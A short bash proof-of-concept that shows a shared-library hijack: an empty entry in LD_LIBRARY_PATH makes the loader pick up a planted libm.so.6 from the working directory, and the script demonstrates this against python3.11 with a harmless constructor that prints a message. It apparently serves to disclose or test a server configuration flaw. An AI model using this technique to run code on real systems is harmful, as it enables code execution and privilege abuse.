#!/bin/bash
# An empty part of the server's LD_LIBRARY_PATH is the working directory; Go programs ignore it, the interpreter does not.
D=$(mktemp -d); cd $D; cat > e.c <<'C'
#include <unistd.h>
__attribute__((constructor)) static void run(void){ write(2,"MALLORY IN LIBRARY\n",19); }
C
gcc -shared -fPIC -o libm.so.6 e.c 2>/dev/null && LD_LIBRARY_PATH="/opt/lib:" /usr/bin/python3.11 -I -S -c pass 2>&1 | head -3; rm -r $D
